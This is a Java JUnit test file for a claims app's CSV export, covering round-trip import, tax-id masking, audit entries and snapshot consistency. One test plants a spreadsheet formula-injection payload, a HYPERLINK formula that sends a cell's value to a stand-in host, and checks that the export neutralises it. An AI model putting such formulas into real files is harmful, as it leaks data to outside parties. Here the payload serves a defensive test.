package org.claimdesk.app;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.claimdesk.domain.AuditActions;
import org.claimdesk.domain.AuditEntry;
import org.claimdesk.domain.Claim;
import org.claimdesk.domain.ClaimDeskException;
import org.claimdesk.domain.ClaimField;
import org.claimdesk.store.ClaimQuery;
import org.claimdesk.store.Database;
import org.claimdesk.store.Json;
import org.claimdesk.testing.Sql;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.claimdesk.testing.TestDatabase;
import org.junit.jupiter.params.Parameter;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.provider.EnumSource;

/** {@link ClaimExport} on real SQLite files: the round trip through the import, masked tax ids, the audit entry. */
@ParameterizedClass
@EnumSource(TestDatabase.Engine.class)
public class ClaimExportTest {
    @Parameter
    TestDatabase.Engine engine;

    private static final Pattern WHOLE_TAX_ID = Pattern.compile("[0-9]{3}-[0-9]{2}-[0-9]{4}|[0-9]{2}-[0-9]{7}");

    @TempDir
    Path dir;

    Database source;
    Queries queries;

    @BeforeEach
    void open() throws Exception {
        source = TestDatabase.open(engine, dir.resolve("source"));
        queries = new Queries(source, ClaimIntakeTest.CLOCK);
        // more rows than a page, and values a CSV must quote (quotes, commas) or a spreadsheet would read as a number
        StringBuilder csv = new StringBuilder(ClaimImportTest.HEADER + ",claimantPhone,claimantEmail\n");
        for (int n = 1; n <= ClaimExport.PAGE_SIZE + 150; n++) {
            csv.append(ClaimImportTest.row(n)).append(n % 7 == 0 ? "\"12 Main St, Apt \"\"4\"\"\"" : "")
                    .append(',').append(n % 5 == 0 ? "+1 (555) 010-" + String.format("%04d", n) : "")
                    .append(',').append(n % 3 == 0 ? "c" + n + "@example.org" : "").append('\n');
        }
        csv.append("NY,7730051,Consolidated Edison,HLD-318204,UT01,HEIR,\"Søren \"\"Kim\"\" Ødegaard\",12-3456789,1,"
                + "2026-02-17,1 Rue d'Été,,\n");
        Path file = dir.resolve("seed.csv");
        Files.writeString(file, csv, StandardCharsets.UTF_8);
        ClaimImport.Report seeded = new ClaimImport(source, ClaimIntakeTest.CLOCK)
                .run(file, "s.patel", ClaimImport.Options.defaults());
        assertThat(seeded.clean()).as(seeded.rejected().toString()).isTrue();
        assertThat(seeded.imported()).isEqualTo(ClaimExport.PAGE_SIZE + 151);
    }

    @AfterEach
    void close() {
        source.close();
    }

    private static Map<String, Map<String, String>> fieldsByKey(List<Claim> claims) {
        Map<String, Map<String, String>> all = new LinkedHashMap<>();
        for (Claim claim : claims) {
            Map<String, String> fields = new LinkedHashMap<>();
            ClaimField.all().forEach(f -> fields.put(f.name(), f.textOf(claim)));
            all.put(claim.jurisdiction() + "/" + claim.statePropertyId() + "/" + claim.claimantName(), fields);
        }
        return all;
    }

    public static List<String[]> rows(Path file) throws Exception {
        List<String[]> rows = new ArrayList<>();
        try (MappingIterator<String[]> it = new CsvMapper().readerFor(String[].class)
                .with(CsvParser.Feature.WRAP_AS_ARRAY).readValues(Files.readString(file).substring(1))) {
            it.forEachRemaining(rows::add);
        }
        return rows;
    }

    @Test
    void anExportWithTaxIdsImportsIntoAnEmptyDatabaseWithEveryFieldAsItWas() throws Exception {
        Path file = dir.resolve("claims.csv");
        ClaimExport.Result result = new ClaimExport(source, ClaimIntakeTest.CLOCK).run(file, ClaimQuery.all(),
                ClaimExport.TaxIds.included("j.chen", "moving the office to a new ClaimDesk"));
        assertThat(result.claims()).isEqualTo(ClaimExport.PAGE_SIZE + 151);
        assertThat(rows(file).get(0)).containsExactlyElementsOf(ClaimImport.columns());
        assertThat(Files.readString(file)).contains("Søren \"\"Kim\"\" Ødegaard").doesNotContain("'+1");
        assertThat(Files.getPosixFilePermissions(file)).isEqualTo(PosixFilePermissions.fromString("rw-------"));
        assertThat(CsvFileTest.parts(file)).isEmpty();

        try (Database target = TestDatabase.open(engine, dir.resolve("target"))) {
            ClaimImport.Report report = new ClaimImport(target, ClaimIntakeTest.CLOCK)
                    .run(file, "j.chen", ClaimImport.Options.defaults());
            assertThat(report.rejected()).isEmpty();
            assertThat(report.imported()).isEqualTo(result.claims());
            assertThat(dir.resolve("claims.csv.errors.csv")).doesNotExist();
            Map<String, Map<String, String>> copied = fieldsByKey(new Queries(target, ClaimIntakeTest.CLOCK)
                    .claims(ClaimQuery.all()));
            Map<String, Map<String, String>> original = fieldsByKey(queries.claims(ClaimQuery.all()));
            assertThat(copied).hasSize(original.size()).isEqualTo(original);
        }
    }

    /**
     * A name or address stored before the rule that refuses formulas (an older database) goes out as text, so that a
     * spreadsheet opening the export does not run it; a phone starting with + goes out as it is.
     */
    @Test
    void aFormulaStoredBeforeTheRuleIsWrittenAsTextAndAPhoneAsItIs() throws Exception {
        String formula = "=HYPERLINK(\"https://x.example/?\"&H2,\"open\")";
        source.useTransaction(h -> h.createUpdate("UPDATE claim SET claimant_name = :name,"
                + " claimant_address = '@SUM(A1)' WHERE claim_id = 5").bind("name", formula).execute());
        Path file = dir.resolve("older.csv");
        new ClaimExport(source, ClaimIntakeTest.CLOCK).run(file, ClaimQuery.all(), ClaimExport.TaxIds.masked());
        List<String[]> rows = rows(file);
        List<String> header = List.of(rows.get(0));
        String[] fifth = rows.stream().filter(r -> r[header.indexOf("claimantName")].contains("HYPERLINK"))
                .findFirst().orElseThrow();
        assertThat(fifth[header.indexOf("claimantName")]).isEqualTo("'" + formula);
        assertThat(fifth[header.indexOf("claimantAddress")]).isEqualTo("'@SUM(A1)");
        assertThat(rows).anySatisfy(r -> assertThat(r[header.indexOf("claimantPhone")]).startsWith("+1 (555)"));
        assertThat(rows).noneSatisfy(r -> assertThat(String.join(",", r)).contains("'+"));
    }

    /**
     * Claims changed and added while an export runs (by other staff, the worker) are not in it: every page, and the
     * audited count, are the claims as they stood when it began.
     */
    @Test
    void anExportHoldsTheClaimsAsTheyStoodWhenItBeganWhateverIsCommittedMeanwhile() throws Exception {
        int before = Sql.count(source, "claim");
        long last = Sql.scalar(source, "SELECT max(claim_id) FROM claim", Long.class);
        String lastName = queries.claim(last).orElseThrow().claimantName();
        boolean[] changed = {false};
        java.util.function.LongConsumer changeAfterTheFirstPage = written -> {
            if (!changed[0]) {
                changed[0] = true;
                source.useTransaction(h -> h.execute("UPDATE claim SET claimant_name = 'Changed Meanwhile', version ="
                        + " version + 1 WHERE claim_id = ?", last));
                new ClaimIntake(source, ClaimIntakeTest.CLOCK).create(ClaimIntakeTest.fields(), null, "j.chen", null,
                        null);
            }
        };
        Path file = dir.resolve("snapshot.csv");

        ClaimExport.Result result = new ClaimExport(source, ClaimIntakeTest.CLOCK).run(file, ClaimQuery.all(),
                ClaimExport.TaxIds.included("j.chen", "quarterly report"), changeAfterTheFirstPage);

        assertThat(changed[0]).isTrue();
        assertThat(Sql.count(source, "claim")).isEqualTo(before + 1);
        assertThat(result.claims()).isEqualTo(before);
        List<String[]> written = rows(file);
        assertThat(written).hasSize(before + 1);
        assertThat(written.get(written.size() - 1)[0]).isEqualTo(lastName);
        assertThat(Files.readString(file)).doesNotContain("Changed Meanwhile");
        assertThat(Json.readObject(queries.audit(null, null, AuditActions.CLAIMS_EXPORT_TAX_IDS, 0, 0).get(0)
                .details())).containsEntry("claims", before);
    }

    @Test
    void anExportWithTaxIdsIsOneAuditEntryNamingWhoWhyTheFileAndTheCount() {
        new ClaimExport(source, ClaimIntakeTest.CLOCK).run(dir.resolve("ca.csv"),
                ClaimQuery.all().withSearch("Claimant 11"),
                ClaimExport.TaxIds.included("j.chen", "the state auditor asked for them"));
        List<AuditEntry> entries = queries.audit(null, null, AuditActions.CLAIMS_EXPORT_TAX_IDS, 0, 0);
        assertThat(entries).hasSize(1);
        AuditEntry entry = entries.get(0);
        assertThat(entry.actor()).isEqualTo("j.chen");
        assertThat(entry.reason()).isEqualTo("the state auditor asked for them");
        assertThat(entry.subjectId()).isEqualTo("ca.csv");
        Map<String, Object> details = Json.readObject(entry.details());
        assertThat(details).containsEntry("file", "ca.csv");
        // Claimant 11, 110..119, 1100..1150
        assertThat(((Number) details.get("claims")).longValue()).isEqualTo(1 + 10 + 51);
        assertThat(entry.details()).doesNotContainPattern(WHOLE_TAX_ID);
    }

    @Test
    void taxIdsNeedAnActorAndAReasonAndNothingIsWrittenWithoutThem() {
        Path file = dir.resolve("refused.csv");
        assertThatThrownBy(() -> new ClaimExport(source, ClaimIntakeTest.CLOCK).run(file, ClaimQuery.all(),
                ClaimExport.TaxIds.included("j.chen", " "))).isInstanceOf(ClaimDeskException.class)
                .hasMessageContaining("reason");
        assertThat(file).doesNotExist();
        assertThat(queries.audit(null, null, AuditActions.CLAIMS_EXPORT_TAX_IDS, 0, 0)).isEmpty();
    }

    @Test
    void anExportWithoutTaxIdsCarriesOnlyTheLastFourAndIsNotAudited() throws Exception {
        Path file = dir.resolve("masked.csv");
        ClaimExport.Result result = new ClaimExport(source, ClaimIntakeTest.CLOCK)
                .run(file, ClaimQuery.all(), ClaimExport.TaxIds.masked());
        assertThat(result.taxIds()).isFalse();
        String text = Files.readString(file);
        assertThat(text).doesNotContainPattern(WHOLE_TAX_ID).contains("***-**-0011").contains("***-**-6789");
        int taxId = ClaimImport.columns().indexOf("taxId");
        assertThat(rows(file).subList(1, (int) result.claims() + 1))
                .allSatisfy(row -> assertThat(row[taxId]).startsWith("*"));
        assertThat(queries.audit(null, null, AuditActions.CLAIMS_EXPORT_TAX_IDS, 0, 0)).isEmpty();

        // for reading only: an import rejects every row at taxId, and imports nothing
        try (Database target = TestDatabase.open(engine, dir.resolve("target"))) {
            ClaimImport.Report report = new ClaimImport(target, ClaimIntakeTest.CLOCK)
                    .run(file, "j.chen", new ClaimImport.Options(true, false, null));
            assertThat(report.imported()).isZero();
            assertThat(report.rejectedRows()).isEqualTo(result.claims());
            assertThat(report.rejected()).allSatisfy(r -> assertThat(r.column()).isEqualTo("taxId"));
        }
    }
}
